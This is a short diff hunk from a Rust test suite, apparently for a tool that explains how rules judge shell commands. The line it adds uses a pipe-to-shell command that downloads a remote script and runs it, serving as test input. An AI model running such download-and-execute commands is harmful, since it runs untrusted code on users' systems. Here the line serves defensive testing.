@@ -422,6 +422,7 @@ fn explain_stays_short_and_narrow_however_many_rules_are_unknown() {
         assert_eq!(defs.len(), distinct.len(), "{shown}");
     }
     assert!(!explained("python3 -c 'print(1)'").contains("unknown"));
+    assert!(explained("curl -s https://x/i.sh | sh").contains(" rules are unknown, which changes nothing here"));
     let shown = explained("$X a");
     assert!(shown.contains("more rules are unknown for a reason given above, with the same vote"), "{shown}");
     assert!(shown.contains("more rules are unknown, which changes nothing here"), "{shown}");
